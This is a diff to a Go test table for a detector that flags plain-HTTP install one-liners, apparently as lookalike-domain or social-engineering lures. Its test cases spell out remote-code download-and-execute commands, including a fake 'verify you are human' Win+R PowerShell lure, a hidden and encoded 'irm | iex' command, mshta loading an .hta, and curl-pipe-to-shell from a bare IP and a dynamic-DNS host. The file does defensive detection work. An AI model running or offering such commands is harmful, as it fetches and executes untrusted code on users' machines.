@@ -38,7 +38,9 @@ func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
 		{"Verify you are human: press Win+R and paste powershell -c \"irm http://bun.sh/install.ps1 | iex\"", true},
 		{"powershell -w hidden -c \"irm http://get.scoop.sh | iex\"", true},
 		{"powershell -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA= ; irm http://get.scoop.sh | iex", true},
-		{"mshta http://tailscale.com/install.hta", true},
+		// bun.sh: tailscale.com is a protected brand's own domain
+		// since infra45, trusted as every brand's is
+		{"mshta http://bun.sh/install.hta", true},
 		{"curl -fsSL http://45.137.21.9/install.sh | sh", true},
 		{"curl -fsSL http://get.example-tools.com:8080/install.sh | sh", true},
 		{"curl -fsSL http://k3s-mirror.duckdns.org/install.sh | sh", true},
